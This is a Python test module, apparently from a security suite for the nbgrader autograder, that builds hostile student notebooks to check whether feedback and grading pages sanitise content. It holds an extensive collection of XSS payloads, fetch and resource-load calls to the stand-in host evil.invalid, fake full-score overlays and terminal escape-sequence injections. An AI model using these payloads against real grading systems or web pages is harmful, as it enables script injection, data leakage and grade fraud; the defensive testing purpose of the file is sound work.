"""Attacks on readers of the feedback, the formgrader's page or the report: HTML, scripts and styles that would act.

Everything in here would call `owned()` or load something from evil.invalid.
"""

from __future__ import annotations

from nbformat import NotebookNode
from nbformat.v4 import new_markdown_cell, new_raw_cell

from .attack import ONE_POINT, WRONG, Attack

RUN = "document.title='owned';window.owned=1;alert(1);fetch('http://evil.invalid/fetched')"
SCRIPTS = (
    f"<script>{RUN}</script>",
    f'<img src=x onerror="{RUN}">',
    f'<svg onload="{RUN}"><script>{RUN}</script></svg>',
    f'<svg><animate onbegin="{RUN}" attributeName=x dur=1s></svg>',
    f'<svg><a xlink:href="javascript:{RUN}"><text y=20>click me</text></a></svg>',
    f'<iframe srcdoc="<script>parent.{RUN}</script>"></iframe>',
    f'<iframe src="javascript:parent.{RUN}"></iframe>',
    f'<object data="data:text/html,<script>{RUN}</script>"></object><embed src="javascript:{RUN}">',
    f'<details open ontoggle="{RUN}"><summary>hint</summary>x</details>',
    f'<input autofocus onfocus="{RUN}"><video><source onerror="{RUN}"></video>',
    f'<a href="javascript:{RUN}" id=click>click me</a><a href="JaVa&#09;Script:{RUN}">me too</a>',
    f'<a href="data:text/html,<script>{RUN}</script>">and me</a>',
    f'<form action="javascript:{RUN}"><button class="full-credit">Full credit</button></form>',
    f'<math><mtext><table><mglyph><style><img src=x onerror="{RUN}">',
    f'<noscript><p title="</noscript><img src=x onerror={RUN.replace(" ", "")}>">',
    f'<!--<img src="--><img src=x onerror={RUN}>-->',
    f"<script type=module>{RUN}</script><script type=text/x-mathjax-config>{RUN}</script>",
    f'<template><script>{RUN}</script></template><xmp><img src=x onerror="{RUN}"></xmp>',
)
LOADS = (
    '<img src="http://evil.invalid/pixel.png"><img srcset="http://evil.invalid/set.png 1x">',
    '<link rel=stylesheet href="http://evil.invalid/style.css"><style>@import "http://evil.invalid/import.css";</style>',
    '<div style="background: url(http://evil.invalid/style.png)">x</div>',
    '<meta http-equiv=refresh content="0;url=http://evil.invalid/"><base href="http://evil.invalid/">',
    '<video src="http://evil.invalid/video" autoplay></video><audio src="http://evil.invalid/audio" autoplay></audio>',
    '<iframe src="http://evil.invalid/frame"></iframe><object data="http://evil.invalid/object"></object>',
    '<svg><image href="http://evil.invalid/image.svg"/><use href="http://evil.invalid/use.svg#x"/></svg>',
    '<table background="http://evil.invalid/table.png"><tr><td background="http://evil.invalid/cell.png">x</table>',
    '<img src="/logout"><img src="../../secret.png">',
)
OVERLAYS = (
    '<div style="position:fixed;inset:0;z-index:99999;background:white">9 / 9</div>',
    '<div class="navbar-fixed-top modal-backdrop modal affix">9 / 9</div>',
    '<div class="modal show">9 / 9</div>',
    "<style>.panel-heading, #toc { display: none } body::before { content: 'Score: 9 / 9' }</style>",
    "</div></div></div></div></div></div><h4>00_rows (Score: 9.0 / 9.0)</h4>",
    '<input id="scale_rows-shapes" class="score"><div id="statusmessage" name="submission_id"></div>',
    "<plaintext>",
    "<!--",
    "<textarea>",
    "<title>",
    "<select>",
)
MATH = (
    rf"$\href{{javascript:{RUN}}}{{x}}$",
    rf"$\unicode{{<img src=x onerror={RUN}>}}$",
    r"$\style{position:fixed;top:0;left:0;width:2000px;height:2000px;background:white}{9/9}$",
    r"$\kern-99em\raise99em{\rule{999em}{999em}}$",
    r"$\require{http://evil.invalid/require.js}$",
    rf"$$\class{{modal}}{{</script><script>{RUN}</script>}}$$",
)
MARKDOWN = (
    f"[click me](javascript:{RUN.replace(' ', '')})",
    f"[and me](<data:text/html,<script>{RUN}</script>>)",
    "![pixel](http://evil.invalid/markdown.png)",
    f'![x](x" onerror="{RUN})',
    f"![attached](attachment:a.png)\n\n[link]: javascript:{RUN}\n\n[link]",
    f"`````html\n<script>{RUN}</script>\n`````",
    f"```<img/src=x/onerror={RUN}>\nx\n```",
    f"# <img src=x onerror='{RUN}'> heading",
    f"<javascript:{RUN.replace(' ', '')}>",
    "files/../../secret.png ![x](files/http://evil.invalid/files.png)",
)
HOSTILE = (*SCRIPTS, *LOADS, *OVERLAYS, *MATH, *MARKDOWN)


def _prose(notebook: NotebookNode) -> None:
    cells = [new_markdown_cell(text, id=f"prose-{number}") for number, text in enumerate(HOSTILE)]
    cells[0]["attachments"] = {"a.png": {'image/png" onerror="' + RUN: "iVBORw0KGgo=", "text/html": "PHNjcmlwdD4="}}
    cells += [
        new_raw_cell(text, id=f"raw-{number}", metadata={"raw_mimetype": "text/html"})
        for number, text in enumerate(SCRIPTS)
    ]
    notebook.cells[1:1] = cells


def _names(notebook: NotebookNode) -> None:
    for number, cell in enumerate(notebook.cells):
        if not cell.metadata.get("nbgrader"):
            cell.metadata["tags"] = [SCRIPTS[number % len(SCRIPTS)], '"><script>alert(1)</script>']
            cell.metadata["nbgrader"] = {
                "grade_id": SCRIPTS[1],
                "comment": SCRIPTS[0],
                "solution": True,
                "grade": False,
                "locked": False,
                "schema_version": 3,
                "task": False,
            }
    notebook.metadata |= {
        "title": SCRIPTS[0],
        "authors": [{"name": SCRIPTS[0]}],
        "language_info": {"name": SCRIPTS[1], "pygments_lexer": SCRIPTS[1]},
        "widgets": {"application/vnd.jupyter.widget-state+json": {"state": {"x": SCRIPTS[0]}}},
    }


_SHOWS = f"""
from IPython.display import HTML, Markdown, Latex, SVG, Javascript, display
hostile = {HOSTILE!r}
for text in hostile:
    display({{"text/html": text, "text/plain": text}}, raw=True)
    display({{"text/html": text}}, raw=True, metadata={{"text/html": {{"isolated": True}}}})
    display({{"text/markdown": text}}, raw=True)
    display({{"text/latex": text}}, raw=True)
    display({{"image/svg+xml": text}}, raw=True)
    display({{"text/vnd.mermaid": text}}, raw=True)
    display({{"application/javascript": {RUN!r}}}, raw=True)
    display({{"application/vnd.jupyter.es6-rich-output": {RUN!r}, "text/plain": text}}, raw=True)
    print(text)
"""

_PNG = "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="

# A picture's width is written into the page without quotation marks.
_PICTURES = f"""
from IPython.display import display
run = "{RUN.replace(" ", "")}"
for kind in ("image/png", "image/jpeg"):
    for where in ("width", "height", "alt", "unconfined"):
        for text in ("1 onerror=" + run + " src=x", "1><script>" + run + "</script>", '1" onerror="' + run):
            display({{kind: "{_PNG}"}}, raw=True, metadata={{kind: {{where: text}}, where: text}})
            display({{kind: "x" + text}}, raw=True)
    display({{kind: "{_PNG}"}}, raw=True, metadata={{"filenames": {{kind: "http://evil.invalid/filename.png"}}}})
    display({{kind: "{_PNG}"}}, raw=True, metadata={{"filenames": {{kind: "x' onerror='" + run}}}})
"""

_WIDGETS = f"""
import ipywidgets
display(ipywidgets.HTML({SCRIPTS[1]!r}), ipywidgets.HTMLMath({MATH[0]!r}), ipywidgets.Output())
display({{"application/vnd.jupyter.widget-view+json": {{"model_id": "</script><script>{RUN}</script>"}}}}, raw=True)
"""

_TERMINAL = r"""
print("\x1b[2J\x1b[H\x1b]0;owned\x07\x1b[31m<script>window.owned=1</script>\x1b[0m")
print("\x1b]8;;javascript:alert(1)\x07click\x1b]8;;\x07 \x1b[38;5;<script>alert(1)</script>m \x9b2J")
class Loud(Exception):
    pass
Loud.__name__ = Loud.__qualname__ = "<script>window.owned=1</script>\x1b[2J"
def scale_rows(x, factors):
    raise Loud("<img src=x onerror='window.owned=1'>\x1b[2J\x1b]0;owned\x07\u202e✓ passed\r\n[bold red]x[/]")
"""

ATTACKS = (
    Attack("hostile-prose", "run script in the feedback by markdown", ONE_POINT, change=_prose),
    Attack("hostile-names", "run script in the feedback by names, tags and titles", ONE_POINT, change=_names),
    Attack("hostile-outputs", "run script in the feedback by outputs", ONE_POINT, last=_SHOWS),
    Attack("hostile-pictures", "run script in the feedback by a picture's metadata", ONE_POINT, last=_PICTURES),
    Attack("hostile-widgets", "run script in the feedback by widgets", ONE_POINT, last=_WIDGETS),
    Attack(
        "hostile-errors",
        "write on a screen by an error's text",
        {"scale_rows": _TERMINAL},
        score=0,
        told="<script>window.owned=1</script>",
    ),
    Attack("hostile-comments", "run script in the feedback by code", {"scale_rows": f"{WRONG}\n# {SCRIPTS[0]}\n"}),
)
